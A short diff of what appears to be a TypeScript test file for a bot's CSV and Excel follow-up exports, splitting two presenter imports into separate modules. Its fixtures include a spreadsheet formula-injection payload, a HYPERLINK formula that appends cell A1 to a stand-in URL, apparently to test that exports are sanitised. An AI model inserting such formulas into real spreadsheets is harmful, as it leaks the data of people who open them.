@@ -1,13 +1,13 @@
 import AdmZip from 'adm-zip';
 import { ValueType, Workbook, type Worksheet } from 'exceljs';
+import { followUpCsv } from '../../../../bot/src/api/presenters/follow-up-csv';
 import {
   exportFileName,
-  followUpCsv,
-  followUpWorkbook,
   type ExportActivity,
   type ExportSubAssignment,
   type FollowUpExport,
 } from '../../../../bot/src/api/presenters/follow-up-export';
+import { followUpWorkbook } from '../../../../bot/src/api/presenters/follow-up-workbook';
 
 const INJECTION = '=HYPERLINK("https://example.invalid/?q="&A1;"Klicka")';
 const TRICKY = 'Fikat på avd 2; "lugnare" nu\nfortsätter i april';
